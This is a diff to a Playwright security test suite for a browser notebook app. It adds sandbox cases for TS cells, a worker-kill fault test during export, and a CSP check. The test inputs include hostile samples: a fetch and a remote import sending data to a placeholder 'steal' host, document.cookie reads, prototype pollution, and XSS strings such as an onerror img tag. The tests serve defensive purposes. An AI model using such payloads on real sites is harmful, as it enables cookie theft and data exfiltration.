@@ -9,8 +9,8 @@
 
 import type { CorpusFileName } from './files';
 import type { Locator } from '@playwright/test';
-import type { CorpusPage } from './harness';
-import { expect, tableEntry } from '../fixtures';
+import { PROBE_SQL, type CorpusPage } from './harness';
+import { expect, probeCsp, tableEntry } from '../fixtures';
 
 /** A query run in the case cell and the grid it must show: every row, values as the grid shows them. */
 export interface RowsCheck {
@@ -303,6 +303,47 @@ export const SQL_CASES: CorpusCase[] = [
     } },
 ];
 
+// ---------------------------------------------------------------------------------------- TS cells
+
+/** The case cell of the TS group: a ts cell with a short time limit, so runaway code is stopped quickly. */
+export const TS_CASE_FENCE = 'ts timeout=5';
+const timeLimit = /Stopped: the cell ran longer than its time limit of 5 s, so its worker was terminated\. Make it faster, or raise/;
+const pageless = (name: string) => new RegExp(`ReferenceError: ${name} is not defined \\(line 1, column \\d+\\)\\. A ts cell runs in a worker, apart from the page: it has no ${name}`);
+
+export const TS_CASES: CorpusCase[] = [
+  { id: 'ts-endless-loop', kind: 'sql', title: 'while (true) {}',
+    sql: 'export default () => { while (true) {} };', expect: { error: timeLimit } },
+  { id: 'ts-runaway-allocation', kind: 'sql', title: 'an array that grows by 8 MB per step without end',
+    // Chromium gives no way to cap a worker's heap: the time limit stops it (about 1 GB in 5 s here);
+    // the tab would crash at the worker's 4 GB heap limit (docs/ts-cells.md, "Memory").
+    sql: 'export default () => { const hoard: number[][] = []; for (;;) hoard.push(new Array(1_000_000).fill(hoard.length)); };',
+    expect: { error: timeLimit } },
+  { id: 'ts-throw', kind: 'sql', title: 'a cell that throws',
+    sql: "export default () => { throw new Error('no rows for you'); };", expect: { error: /Error: no rows for you \(line 1, column \d+\)/ } },
+  { id: 'ts-parent', kind: 'sql', title: 'reaching for the page through parent',
+    sql: "export default () => { parent.postMessage({ steal: true }, '*'); return []; };", expect: { error: pageless('parent') } },
+  { id: 'ts-document', kind: 'sql', title: 'reading document.cookie',
+    sql: 'export default () => [{ cookie: document.cookie }];', expect: { error: pageless('document') } },
+  { id: 'ts-fetch', kind: 'sql', title: 'fetch to another origin',
+    sql: "export default async () => { await fetch('https://example.com/steal?rows=1'); return []; };",
+    expect: { error: /fetch\(\) is not available in a ts cell: the cell runs without network access, so data never leaves this machine/ } },
+  { id: 'ts-import-remote', kind: 'sql', title: 'a module imported from another origin',
+    sql: "import steal from 'https://example.com/steal.js';\nexport default () => steal();",
+    expect: { error: /A ts cell cannot import "https:\/\/example\.com\/steal\.js": code is never loaded from the network/ } },
+  { id: 'ts-prototype-pollution', kind: 'action', title: 'Object.prototype polluted and Array.prototype.map overwritten by one cell',
+    async run(c) {
+      const status = await c.runSql("const objects: any = Object.prototype;\nobjects.polluted = 'yes';\nArray.prototype.map = () => { throw new Error('hijacked'); };\nexport default () => [{ ran: 1 }];");
+      // Its own worker's built-ins are its to break: the runtime's next .map() hits the cell's own
+      // throwing map, and the error names the cell's line, as any error of its code does.
+      expect(status).toBe('error');
+      await expect(c.caseError()).toContainText(/Error: hijacked \(line 3, column \d+\)/);
+      expect(await c.page.evaluate(() => (({}) as Record<string, unknown>)['polluted']), 'the page is not polluted').toBeUndefined();
+      // The next run gets a fresh worker: nothing of the last one is left. (The text starts with a letter:
+      // Monaco auto-closes a bracket typed first.)
+      await c.expectRows("export default () => [{ seen: String(({} as any).polluted), mapped: [1].map((x) => x + 1)[0] }];", [['undefined', '2']]);
+    } },
+];
+
 // ------------------------------------------------------------------------------------------ faults
 
 const LONG_QUERY = 'SELECT count(*) FROM range(20000000000) t(i) WHERE i % 7 = 3';
@@ -383,7 +424,48 @@ export const FAULT_CASES: ActionCase[] = [
       expect(status).toBe('ok');
       await second.close();
     } },
+  { id: 'fault-kill-mid-export', kind: 'action', title: 'the DuckDB worker terminated while a partitioned export writes files', timeoutMs: 240_000,
+    async run(c) {
+      const harness = await c.downloadedText();
+      const notebook = `${fence}export from=sales format=parquet partition_by=product_id to=opfs path=exports/killed\n${fence}\n\n${fence}sql\n${PROBE_SQL}\n${fence}\n`;
+      await c.openNotebook(notebook, 'export-fault.lakebook.md');
+      const exportCell = c.page.getByTestId('cell').first();
+      await expect(exportCell).toHaveAttribute('data-cell-kind', 'export');
+      await exportCell.getByTestId('run-cell').click();
+      await expect(exportCell.getByTestId('cell-progress')).toContainText(/file [2-9]\d* of 50/, { timeout: 100_000 });
+      await c.page.evaluate(() => window.__lakebook!.killWorker());
+      await expect(exportCell).toHaveAttribute('data-status', 'error', { timeout: 60_000 });
+      await expect(c.page.getByTestId('cell-error').first()).toContainText(/engine (stopped|restarted)|restart/i);
+      await expect(c.page.getByRole('status').filter({ hasText: /engine restarted/i })).toBeVisible({ timeout: 180_000 });
+      expect(await exportedFiles(c, 'exports/killed'), 'a broken export leaves no files and no _SUCCESS').toEqual([]);
+      // The same export runs to the end after the restart.
+      await c.dismissNotices();
+      await exportCell.getByTestId('run-cell').click();
+      await expect(exportCell).toHaveAttribute('data-status', 'ok', { timeout: 180_000 });
+      expect(await exportedFiles(c, 'exports/killed')).toContain('_SUCCESS');
+      expect(await c.downloadedText(), 'the notebook text is as opened').toBe(notebook);
+      // Back to the harness notebook for the checks every case ends with.
+      await c.openNotebook(harness, 'corpus.lakebook.md');
+      await expect(c.page.getByTestId('cell')).toHaveCount(2);
+    } },
 ];
+
+const fence = '```';
+
+/** The names in an OPFS folder ("a/b"), or [] when it does not exist. */
+async function exportedFiles(c: CorpusPage, path: string): Promise<string[]> {
+  return c.page.evaluate(async (parts) => {
+    let dir = await navigator.storage.getDirectory();
+    try {
+      for (const part of parts) dir = await dir.getDirectoryHandle(part);
+    } catch {
+      return [];
+    }
+    const names: string[] = [];
+    for await (const name of (dir as unknown as { keys(): AsyncIterable<string> }).keys()) names.push(name);
+    return names.sort();
+  }, path.split('/'));
+}
 
 // -------------------------------------------------------------------------------- notebooks as attack
 
@@ -450,6 +532,12 @@ export const NOTEBOOK_CASES: ActionCase[] = [
       await expect(grid.getByRole('gridcell')).toHaveText(['<img src=x onerror=window.__pwned=1>', 'javascript:alert(1)']);
       await expect(tableEntry(c.page, '<img src=x onerror=window.__pwned=1>')).toBeVisible();
       await expect(cells.nth(2)).toHaveAttribute('data-status', 'ok', { timeout: 60_000 });
+    },
+    expectedText: HOSTILE_NOTEBOOK,
+    probe: (c) => c.page.getByTestId('cell').nth(2) },
+  { id: 'csp-active', kind: 'action', title: 'the page’s Content-Security-Policy is in force: injected inline script and a request elsewhere are refused',
+    async run(c) {
+      expect(await probeCsp(c.page)).toEqual({ injected: false, fetched: 'blocked', violations: ['connect-src', 'script-src-elem'] });
     },
     expectedText: HOSTILE_NOTEBOOK,
     probe: (c) => c.page.getByTestId('cell').nth(2) },
